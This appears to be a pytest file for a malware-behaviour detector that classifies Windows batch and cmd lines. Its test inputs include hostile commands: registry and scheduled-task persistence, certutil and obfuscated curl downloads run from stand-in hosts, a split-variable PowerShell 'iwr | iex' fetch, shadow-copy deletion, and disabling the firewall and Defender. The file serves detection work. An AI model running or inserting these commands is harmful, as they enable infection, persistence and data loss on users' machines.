"""`cmd` lines and batch files."""

import pytest

from pratique.code.languages import batch, shell
from pratique.code.nested import Script
from pratique.limits import Budget, Limits
from pratique.model import Fact, Location


def look(text: str) -> list[Fact | Script]:
    where = Location(member="a.bat")
    return list(shell.facts(text, where, "call", Budget(Limits()), "batch"))


def behaviours(text: str) -> set[str]:
    return {item.behaviour for item in look(text) if isinstance(item, Fact)}


@pytest.mark.parametrize(
    ("line", "behaviour"),
    [
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe /f",
            "persist/autostart",
        ),
        ("schtasks /create /sc onlogon /tn x /tr C:\\x.exe", "persist/schedule"),
        ("attrib +h +s C:\\x", "fs/hide"),
        ("start /b x.exe", "exec/silent"),
        ("certutil -urlcache -f http://x.example/a.exe a.exe", "exec/lolbin"),
        ("certutil -urlcache -f http://x.example/a.exe a.exe & a.exe", "exec/download-run"),
        ("c^u^r^l http://x.example/a.exe -o a.exe && start a.exe", "exec/download-run"),
        (
            "set u=http://x.example/a.exe\ncurl %u% -o %TEMP%\\a.exe\n%TEMP%\\a.exe",
            "exec/download-run",
        ),
        ("vssadmin delete shadows /all /quiet", "impact/ransom-wipe"),
        ("netsh advfirewall set allprofiles state off", "evade/tamper-security"),
        ("taskkill /f /im MsMpEng.exe", "evade/tamper-security"),
        ("if exist x (del /q x)", "fs/delete"),
    ],
)
def test_programs_have_meanings(line: str, behaviour: str) -> None:
    assert behaviour in behaviours(line)


def test_letters_taken_out_of_variables_are_put_together() -> None:
    pipelines = list(batch.parse("set a=xcurly\n%a:~1,4% http://x.example"))
    assert pipelines[-1][0].words == ("curl", "http://x.example")


def test_remarks_and_honest_lines_show_nothing() -> None:
    assert (
        behaviours(
            "@echo off\nrem curl http://x.example | sh\n:: note\ncd /d %~dp0\nsphinx-build -b html . out"
        )
        == set()
    )


def test_values_end_with_their_line_whatever_ends_it():
    text = 'set a=pow\r\nset b=ershell\r\n%a%%b% -c "iwr http://c2.invalid/a | iex"\r\n'
    found = shell.facts(text, Location(member="x.bat"), "install", Budget(Limits()), "batch")
    assert "exec/download-run" in {one.behaviour for one in found if isinstance(one, Fact)}
